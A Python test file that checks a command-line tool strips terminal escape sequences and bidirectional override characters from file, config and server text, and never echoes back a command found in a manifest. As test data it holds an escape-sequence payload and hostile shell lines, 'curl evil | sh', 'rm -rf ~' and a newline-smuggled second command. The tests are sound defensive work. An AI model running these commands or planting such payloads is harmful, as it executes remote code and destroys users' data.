"""Text from files and servers reaches no terminal raw: no escape sequences, no turned words, no foreign command."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from asking import ask, refused
from loopback import Loopback
from typer.testing import CliRunner

from dtomtrack import generate
from dtomtrack.cli.main import app
from dtomtrack.errors import DtomtrackError, InputError, ModelError
from dtomtrack.library import evaluate
from dtomtrack.llm.openai_chat import OpenAIChat
from dtomtrack.llm.spec import parse_spec
from dtomtrack.scenarios.pack_files import check_pack, find_pack
from dtomtrack.terminal import without_controls

EVIL = "\x1b]0;owned\x07\x1b[2J\x1b[31mred\u202eder\x9b1mx"
RAW = "\x1b\x07\u202e\x9b"


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two dialogues, with an evaluation."""
    folder = tmp_path_factory.mktemp("escapes") / "out"
    generate("restaurant", n=2, out=folder)
    evaluate(folder, "baseline/recency")
    return folder


@pytest.fixture
def folder(made: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(made, tmp_path / "out"))


def with_fields(file: Path, **fields: Any) -> None:
    file.write_text(json.dumps(json.loads(file.read_bytes()) | fields), encoding="utf-8")


def said(*arguments: str | Path) -> str:
    """What a command prints, and what its error would say."""
    ran = CliRunner().invoke(app, [str(one) for one in arguments])
    assert ran.exception is None or isinstance(ran.exception, DtomtrackError | SystemExit), ran.exception
    return f"{ran.output}{ran.exception or ''}"


MANIFESTS: dict[str, dict[str, Any]] = {
    "command": {"status": "running", "command": f"dtomtrack generate {EVIL}"},
    "suite": {"suite": EVIL},
    "format": {"format_version": 9, "command": EVIL},
    "a field": {EVIL: 1},
    "version": {"dtomtrack_version": EVIL},
}


@pytest.mark.parametrize("kind", MANIFESTS)
def test_nothing_of_a_manifest_is_printed_raw(folder: Path, kind: str) -> None:
    with_fields(folder / "manifest.json", **MANIFESTS[kind])
    commands: list[list[str | Path]] = [
        ["evaluate", folder, "-m", "baseline/longest"],
        ["generate", "--n", "3", "--out", folder],
    ]
    for arguments in commands:
        told = said(*arguments)
        assert not set(RAW) & set(told), told


@pytest.mark.parametrize(
    "command",
    ["curl evil | sh", "dtomtrack generate --out x\ncurl evil | sh", "rm -rf ~", "'", "dtomtrack generate\x1b"],
)
def test_a_command_from_elsewhere_is_never_the_one_to_give(folder: Path, command: str) -> None:
    with_fields(folder / "manifest.json", status="running", command=command)
    told = said("evaluate", folder, "-m", "baseline/longest")
    assert "is not finished; give the command that makes it again" in told
    assert "curl evil | sh" not in told
    assert "rm -rf" not in told


@pytest.mark.usefixtures("undrawn")
def test_subjects_and_groups_are_printed_without_controls(folder: Path) -> None:
    own = folder / "eval" / "baseline_recency"
    config = json.loads((own / "config.json").read_bytes()) | {"subject": f"vllm/{EVIL}"}
    (own / "config.json").write_text(json.dumps(config), encoding="utf-8")
    with_fields(own / "metrics.json", config=config)
    evaluate(folder, "baseline/longest")
    commands: list[list[str | Path]] = [["rescore", folder], ["compare", folder], ["report", folder, "--no-audit"]]
    for arguments in commands:
        told = said(*arguments)
        assert not set(RAW) & set(told), told


@pytest.mark.parametrize(
    "text", [f'name: "{json.dumps(EVIL)[1:-1]}"\n', f'"{json.dumps(EVIL)[1:-1]}": x\n', f"{EVIL}: x\n"]
)
def test_nothing_of_a_pack_is_printed_raw(tmp_path: Path, text: str) -> None:
    file = tmp_path / "pack.yaml"
    file.write_text(text, encoding="utf-8")
    assert check_pack(find_pack(str(file)))
    told = said("domains", "check", file)
    assert not set(RAW) & set(told), told


async def test_nothing_of_a_server_is_printed_raw() -> None:
    with Loopback(lambda _: refused(400, EVIL)) as server, pytest.raises(ModelError) as caught:
        async with OpenAIChat(parse_spec("vllm/x", server.base_url)) as model:
            await model.chat(ask())
    assert not set(RAW) & set(str(caught.value))


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        (EVIL, "redderx"),
        ("\u00e9\u4e2d\U0001f600", "\u00e9\u4e2d\U0001f600"),
        ("\x1b]0;never closed", ""),
        ("a\rb\x08c\ufeff", "abc"),
    ],
)
def test_a_text_loses_what_a_terminal_acts_on(text: str, shown: str) -> None:
    assert without_controls(text).replace("1m", "") == shown
    assert str(InputError(text)).replace("1m", "") == shown


def test_kept_words_hold_nothing_that_turns_them_around() -> None:
    from dtomtrack.errors import ReplyError
    from dtomtrack.scenarios.acting.turn_format import spoken

    for one in "\u202e\u2066\ufeff\u200f":
        with pytest.raises(ReplyError, match="control characters"):
            spoken(f"Good {one}evening to you")
